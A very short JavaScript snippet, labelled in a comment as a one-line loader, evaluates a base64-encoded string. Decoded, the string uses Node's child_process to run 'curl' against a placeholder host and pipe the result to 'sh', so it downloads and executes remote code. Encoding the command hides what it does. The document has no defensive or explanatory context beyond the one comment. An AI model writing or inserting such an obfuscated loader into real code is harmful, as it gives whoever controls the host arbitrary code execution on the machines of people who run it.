// A one-line loader: the payload is base64 and goes straight to eval.
eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUuaW52YWxpZC9zIHwgc2gnKQ=="));
